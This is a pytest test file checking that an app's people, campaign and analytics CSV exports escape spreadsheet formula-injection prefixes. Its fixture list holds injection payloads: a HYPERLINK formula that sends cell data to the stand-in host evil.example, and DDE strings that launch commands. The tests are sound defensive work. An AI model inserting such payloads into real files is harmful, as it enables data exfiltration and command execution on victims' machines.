"""Every CSV the app writes neutralises formula prefixes, through one writer.

Attack reproduced (issue 17, item 10): names like `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` were
written raw to /people/export.csv, and the same writer pattern served campaign and analytics exports.
"""

import csv
import io
import re

from campaigns import (
    campaign_reports,
    campaign_runs,
)
from core import metrics
from core.config import ROOT
from core.contact_import import Lookups, parse_row
from tests.campaigns_fixtures import make_campaign
from tests.factories import make_contact

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def dangerous(rows: list[list[str]]) -> list[str]:
    return [value for row in rows for value in row if value.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_people_export_neutralises_formulas_and_still_imports(client, login):
    for number, name in enumerate(FORMULAS):
        make_contact(phone=f"+9198000700{number:02d}", name=name, district="Sitapur")
    login("admin")
    rows = cells(client.get("/people/export.csv").get_data(as_text=True))
    assert dangerous(rows) == []
    header, *body = rows
    names = [dict(zip(header, row, strict=True))["name"] for row in body]
    assert names == ["'" + name for name in FORMULAS]
    problems, values = parse_row(
        dict(zip(header, body[0], strict=True)), Lookups()
    )  # our own export reads back as it was
    assert (problems, values["name"], values["phone"]) == ([], FORMULAS[0], "+919800070000")


def test_the_campaign_export_neutralises_formulas(app, login):
    officer = login("officer", districts=["Sitapur"])
    make_contact(district="Sitapur", name=FORMULAS[0])
    campaign = make_campaign(user=officer)
    campaign_runs.schedule_campaign(campaign, "now")
    campaign_runs.start_run(campaign.id)
    rows = cells(campaign_reports.export_csv(campaign))
    assert dangerous(rows) == [] and any(value == "'" + FORMULAS[0] for row in rows for value in row)


def test_analytics_tables_neutralise_formulas_and_keep_numbers():
    table = metrics.Table("t", "T", ["District", "Change"], [("@SUM(1+1)", -1.5), ("=1+1", 2)])
    assert cells(metrics.csv_text(table)) == [["District", "Change"], ["'@SUM(1+1)", "-1.5"], ["'=1+1", "2"]]


def test_every_csv_is_written_by_the_one_writer():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if not {".venv", "tests", "bench"} & set(path.relative_to(ROOT).parts)
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["core/csv_export.py"]
